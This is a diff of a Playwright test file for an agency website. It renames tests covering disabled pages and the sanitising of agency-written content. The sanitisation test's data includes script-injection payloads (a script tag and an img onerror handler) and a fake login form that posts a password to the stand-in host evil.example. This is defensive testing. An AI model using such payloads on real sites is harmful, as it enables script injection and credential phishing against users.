@@ -52,10 +52,7 @@ for (const [path, words] of [
   ['/about', 'About Us Page is not available'],
   ['/faqs', 'Faq Page is not available'],
 ] as const) {
-  test(`${path} of an agency that has not switched it on is disabled, though its content is on (rules 2.15)`, async ({
-    page,
-    site,
-  }) => {
+  test(`${path} is disabled where the agency has not switched it on (rules 2.15)`, async ({ page, site }) => {
     await page.goto(site.at('wonky', path));
     await expect(page.getByRole('heading', { name: words })).toBeVisible();
     await expect(page.getByRole('banner').locator(`a[href="${path}"]`)).toHaveCount(0);
@@ -83,10 +80,7 @@ for (const [path, call, host] of [
   });
 }
 
-test('nothing that an agency writes runs, imitates a form or leaves unasked', { tag: '@core' }, async ({
-  page,
-  site,
-}) => {
+test('what an agency writes neither runs nor imitates a form', { tag: '@core' }, async ({ page, site }) => {
   const content = [
     '<h1>Hello</h1><script>window.ran = 1</script><img src=x onerror="window.ran = 2">',
     '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
